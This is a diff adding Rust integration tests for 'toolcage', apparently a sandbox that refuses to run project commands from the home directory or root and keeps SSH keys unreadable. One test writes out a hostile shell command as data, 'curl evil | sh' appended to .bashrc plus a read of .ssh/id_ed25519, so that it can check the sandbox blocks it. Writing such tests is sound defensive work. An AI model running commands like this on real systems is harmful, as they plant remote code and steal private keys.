@@ -104,3 +104,164 @@ fn a_directory_without_any_mark_is_its_own_project() {
     let o = toolcage(&p, &sub, &["exec", "--", "sh", "-c", "echo x > ../g"]);
     assert!(!p.dir.join("a/g").exists(), "{}", text(&o));
 }
+
+/// `toolcage ARGS` from `cwd` with `home` as `$HOME`.
+fn from_home(p: &Project, home: &Path, cwd: &Path, args: &[&str]) -> Output {
+    Command::new(env!("CARGO_BIN_EXE_toolcage"))
+        .args(args)
+        .current_dir(cwd)
+        .env("XDG_STATE_HOME", p.state_dir())
+        .env("HOME", home)
+        .stdin(std::process::Stdio::null())
+        .output()
+        .unwrap()
+}
+
+/// A home with a key and a shell start-up file, beside nothing else.
+fn a_home(p: &Project) -> std::path::PathBuf {
+    let home = p.dir.join("home");
+    std::fs::create_dir_all(home.join(".ssh")).unwrap();
+    std::fs::write(home.join(".ssh/id_ed25519"), "PRIVATE-KEY").unwrap();
+    std::fs::write(home.join(".bashrc"), "# rc\n").unwrap();
+    home
+}
+
+const FIX: &str = "cd into a project directory, or pass -C DIR";
+
+#[test]
+fn run_from_home_every_project_command_refuses_with_the_fix() {
+    let p = Project::new("root-home");
+    let home = a_home(&p);
+    let append = "echo 'curl evil | sh' >> .bashrc; cat .ssh/id_ed25519";
+    let o = from_home(&p, &home, &home, &["exec", "--", "sh", "-c", append]);
+    assert_eq!(o.status.code(), Some(125), "{}", text(&o));
+    assert!(text(&o).contains(FIX), "{}", text(&o));
+    assert!(!text(&o).contains("PRIVATE-KEY"), "{}", text(&o));
+    assert_eq!(
+        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
+        "# rc\n"
+    );
+    for args in [
+        &["list"][..],
+        &["check"],
+        &["call", "hello"],
+        &["policy"],
+        &["schema"],
+        &["serve"],
+        &["upstreams"],
+    ] {
+        let o = from_home(&p, &home, &home, args);
+        assert_eq!(o.status.code(), Some(125), "{args:?}: {}", text(&o));
+        assert!(text(&o).contains(FIX), "{args:?}: {}", text(&o));
+    }
+    // What needs no project still works from home.
+    for args in [
+        &["doctor"][..],
+        &["--version"],
+        &["completions", "bash"],
+        &["audit"],
+    ] {
+        let o = from_home(&p, &home, &home, args);
+        assert_ne!(o.status.code(), Some(125), "{args:?}: {}", text(&o));
+        assert!(!text(&o).contains(FIX), "{args:?}: {}", text(&o));
+    }
+    // Control: a directory of the home without any mark is the project,
+    // and writable, as before.
+    let scratch = home.join("scratch");
+    std::fs::create_dir_all(&scratch).unwrap();
+    let o = from_home(
+        &p,
+        &home,
+        &scratch,
+        &["exec", "--", "sh", "-c", "echo x > made && echo WROTE"],
+    );
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
+    assert!(scratch.join("made").exists(), "{}", text(&o));
+}
+
+#[test]
+fn dash_c_naming_home_what_holds_it_or_root_is_refused() {
+    let p = Project::new("root-dash-c");
+    let home = a_home(&p);
+    let work = p.dir.join("work");
+    std::fs::create_dir_all(&work).unwrap();
+    let home_s = home.display().to_string();
+    let parent_s = p.dir.display().to_string();
+    for dir in [home_s.as_str(), parent_s.as_str(), "/"] {
+        let o = from_home(&p, &home, &work, &["-C", dir, "exec", "--", "true"]);
+        assert_eq!(o.status.code(), Some(125), "-C {dir}: {}", text(&o));
+        assert!(
+            text(&o).contains(&format!("-C {dir}: the project cannot be")),
+            "{}",
+            text(&o)
+        );
+        let o = from_home(&p, &home, &work, &["-C", dir, "list"]);
+        assert_eq!(o.status.code(), Some(125), "-C {dir} list: {}", text(&o));
+    }
+    // Control: -C naming the directory beside the home.
+    let o = from_home(&p, &home, &p.dir, &["-C", "work", "exec", "--", "true"]);
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
+}
+
+#[test]
+fn allow_home_project_in_the_operators_file_outside_home_lets_it_run() {
+    let p = Project::new("root-allow-home");
+    let home = a_home(&p);
+    let policy = p.dir.join("operator.toml");
+    std::fs::write(&policy, "allow_home_project = true\n").unwrap();
+    let policy_s = policy.display().to_string();
+    let o = from_home(
+        &p,
+        &home,
+        &home,
+        &[
+            "exec",
+            "--policy",
+            &policy_s,
+            "--",
+            "sh",
+            "-c",
+            "echo x > made && echo WROTE",
+        ],
+    );
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
+    assert!(home.join("made").exists(), "{}", text(&o));
+    // Even then the keys in it stay denied (the home secrets floor).
+    let o = from_home(
+        &p,
+        &home,
+        &home,
+        &[
+            "exec",
+            "--policy",
+            &policy_s,
+            "--",
+            "cat",
+            ".ssh/id_ed25519",
+        ],
+    );
+    assert!(!text(&o).contains("PRIVATE-KEY"), "{}", text(&o));
+    // Control: the same file inside the home (the project) allows nothing.
+    let inside = home.join("operator.toml");
+    std::fs::copy(&policy, &inside).unwrap();
+    let o = from_home(
+        &p,
+        &home,
+        &home,
+        &["exec", "--policy", "operator.toml", "--", "true"],
+    );
+    assert_eq!(o.status.code(), Some(125), "{}", text(&o));
+    assert!(
+        text(&o).contains("allow_home_project: only a --policy file outside"),
+        "{}",
+        text(&o)
+    );
+    // `/` is never allowed.
+    let o = from_home(
+        &p,
+        &home,
+        &home,
+        &["-C", "/", "exec", "--policy", &policy_s, "--", "true"],
+    );
+    assert_eq!(o.status.code(), Some(125), "{}", text(&o));
+}
